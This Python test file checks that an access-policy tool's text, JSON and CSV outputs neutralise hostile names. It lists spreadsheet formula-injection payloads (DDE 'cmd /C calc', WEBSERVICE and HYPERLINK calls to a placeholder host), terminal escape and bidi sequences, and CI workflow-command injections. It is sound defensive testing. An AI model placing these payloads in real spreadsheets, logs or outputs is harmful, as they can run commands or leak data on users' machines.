"""Whatever a subject, a role, a scope or a thing is called, it comes out of `who`, `can` and `matrix` as text: on a
terminal, for scripts and in a spreadsheet (threats, rows 37 and 38).

The strict reader refuses all of these names in a policy's files, so the policies here are made from values.
"""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterator, Sequence
from io import StringIO
from typing import Any

import pytest

from commands import ran
from policies import files
from remit.cli import matrix_rows, matrix_text
from remit.cli.granted import WHO_SHEET, who_json, who_lines, who_rows
from remit.cli.matrix_change_text import difference_lines, holding_difference_lines
from remit.cli.rights import CAN_SHEET, About, can_json, can_lines, can_rows
from remit.cli.sinks import sheet
from remit.core.difference.tables import holding_difference, role_difference
from remit.core.matrix import cells, holdings
from remit.core.model import ALWAYS, FOREVER, ROOT
from remit.core.names import untyped_problem
from remit.core.review import can, sought, who
from remit.core.snapshot import Snapshot
from worlds import policy_of

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example/?\"&A1;\"see\")", "=IMPORTXML(\"//x\";\"y\")",
    "=WEBSERVICE(\"http://x.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=A1", "=SUM(1,2)", "=\"a\"&\"b\"",
    "=@SUM(1)", "= 1", "==1", "=\t1", "=1\n2", "=1\r2", "+1+1", "+cmd|' /C calc'!A0", "+A1", "++1", "+-1", "-1+1",
    "-2+3+cmd|' /C calc'!A0", "-A1", "--1", "@SUM(1+1)", "@A1", "@@x", "\t=1", "\t+1", "\r=1", "\n=1", "\0=1", " =1",
    "  +1", "＝1+1", "＋1", "－1", "＠SUM(1)", "\u3000=1", "\u00a0=1", "=1;2", "='x'!A1", "=A1&\",\"", "=1\"",
]  # fmt: skip
"""Payloads of cells, each beginning as a spreadsheet would take for more than text."""

ANSI = [
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2Jgone", "\x9b31m", "a\nuser:b", "a\r\nb", "a\rb", "\u202eevil",
    "\u2066a\u2069", "\u200bzero", "\u2028line", "\x85next", "a\x00b", "a\x08b", "a\x7f", "::error file=x::owned",
    "a%0A::error::b", "##[error]x", "[bold]x[/bold]", "`a` | b", "<b>x</b>", "\ufeffx", "a\tb", "\ud800", "日本語",
]  # fmt: skip
"""Names that would move a cursor, colour a line, begin another one or be a command to somebody."""

KIND, ACTION = "environment", "view"


def world(name: str, typed: bool) -> tuple[Snapshot, str]:
    """A policy in which everything that can have a name has this one; subjects with a type, or bare."""
    subject = f"user:{name}" if typed else name
    policy = policy_of(
        [(name, ROOT, KIND, ACTION), (name, name, KIND, "edit"), (name, name, name, name)],
        [(subject, name, name, ALWAYS, FOREVER), (f"group:{name}", name, ROOT, ALWAYS, FOREVER)],
        {name: ROOT},
        [(subject, f"group:{name}", ALWAYS, FOREVER)],
        {(KIND, name): name},
        {(KIND, ACTION): True, (KIND, "edit"): False, (name, name): False},
    )
    return Snapshot(policy), subject


def answers(name: str, typed: bool) -> Iterator[tuple[list[str], Any, Sequence[str], list[Any]]]:
    """Every answer about such a policy: its lines, its document, and head and rows of its sheet."""
    snapshot, subject = world(name, typed)
    for kind, action, id, scope in ((KIND, ACTION, None, None), (KIND, "edit", name, None), (name, name, None, name)):
        asked = sought(snapshot, action, kind, id, scope, 0)
        found = list(who(snapshot, asked))
        assert len(found) == 2
        yield (list(who_lines(snapshot, asked, found)), who_json(snapshot, asked, found), WHO_SHEET,
               list(who_rows(snapshot, asked, found)))  # fmt: skip
    nobody = sought(Snapshot(policy_of(vocabulary={(KIND, ACTION): True}, homes={(KIND, name): name})),
                    ACTION, KIND, name, None, 0)  # fmt: skip
    yield list(who_lines(snapshot, nobody, [])), who_json(snapshot, nobody, []), WHO_SHEET, []
    for about in (About(subject, (f"group:{name}",), None, 0), About(f"user:{name}?", (), name, 0)):
        rights = list(can(snapshot, *about))
        yield (list(can_lines(snapshot, about, rights)), can_json(snapshot, about, rights), CAN_SHEET,
               list(can_rows(snapshot, about, rights)))  # fmt: skip
    may, held, nothing = cells(snapshot), holdings(snapshot, 0), Snapshot(policy_of())
    for table, lines, head in (
        (list(may.values()), list(matrix_text.matrix_lines(matrix_text.pairs_of(snapshot), may, matrix_text.FINE)),
         matrix_rows.ROLE_SHEET),
        (list(may.values()),
         list(difference_lines(matrix_text.pairs_of(snapshot), role_difference(nothing, snapshot), "x")),
         matrix_rows.ROLE_SHEET),
        (list(held.values()), list(holding_difference_lines(holding_difference(snapshot, nothing, 0))),
         matrix_rows.SUBJECT_SHEET),
        (list(held.values()), list(matrix_text.holding_lines(list(held.values()))), matrix_rows.SUBJECT_SHEET),
    ):  # fmt: skip
        rows: list[Any] = [matrix_rows.sheet_row(each, "r") for each in table]
        yield lines, [matrix_rows.as_json(each) for each in table], head, rows


@pytest.mark.parametrize("name", FORMULAS, ids=ascii)
@pytest.mark.parametrize("typed", [True, False])
def test_no_cell_of_a_sheet_is_a_formula(name: str, typed: bool) -> None:
    quoted = 0
    for _, _, head, rows in answers(name, typed):
        text = sheet(head, rows)
        read = list(csv.reader(StringIO(text, newline=""), strict=True))
        assert [len(row) for row in read] == [len(head)] * (1 + len(rows)), "a name has ended its cell"
        for row, plain in zip(read[1:], rows, strict=True):
            for cell, value in zip(row, plain, strict=True):
                assert not re.match(r"[\s\0]*[=+\-@＝＋－＠]", cell), (name, cell)
                due = "" if value is None else str(value)
                assert cell in (due, f"'{due}", due.replace("\0", "")), (cell, due)
                quoted += cell.startswith("'")
    assert quoted > 10, "nothing was escaped, so nothing was tried"


@pytest.mark.parametrize("name", [*ANSI, *FORMULAS], ids=ascii)
@pytest.mark.parametrize("typed", [True, False])
def test_a_name_on_a_terminal_stays_within_its_line(name: str, typed: bool) -> None:
    tame = [lines for lines, *_ in answers("tame", typed)]
    for (lines, *_), due in zip(answers(name, typed), tame, strict=True):
        assert len(lines) == len(due), "a name has made a line of its own"
        assert all(line.isprintable() for line in lines), lines


@pytest.mark.parametrize("name", ["::error file=x::owned", "::stop-commands::x", "a%0A::error::b"])
def test_no_line_is_a_command_to_whoever_runs_it(name: str) -> None:
    """Of names that the reader lets through: what has no type, and so may begin a line, holds no colon."""
    policy = files(
        roles=f"p, maker, *, environment, view\np, maker, project:{name}, environment, edit\n",
        vocabulary="environment, view, place, see\nenvironment, edit, home, change\n",
        scopes=f"g2, project:{name}, *\n",
        groups=f"g, user:{name}, group:{name}, *\n",
        access_rules=f"g, group:{name}, maker, project:{name}\n",
        resources=f"environment:{name}, project:{name}\n",
    )
    for arguments in (
        ("who", "view", f"environment:{name}"),
        ("who", "edit", "environment", "--scope", f"project:{name}"),
        ("can", f"user:{name}"),
        ("matrix",),
        ("matrix", "--subjects"),
    ):
        found = ran(*arguments, files=policy)
        assert found.code == 0 and found.err == ""
        assert name in found.out
        assert not any(line.lstrip().startswith("::") for line in found.out.splitlines())
    assert untyped_problem(name) is not None


@pytest.mark.parametrize("name", [*ANSI, *FORMULAS], ids=ascii)
def test_scripts_read_a_name_as_it_is(name: str) -> None:
    for _, document, _, _ in answers(name, True):
        text = json.dumps(document, indent=2)
        assert text.isascii() and text.replace("\n", "").isprintable()
        assert json.loads(text) == document
        assert json.dumps(name)[1:-1] in text


def test_there_are_enough_payloads() -> None:
    assert len(set(FORMULAS)) >= 40 and len(set(ANSI)) >= 20
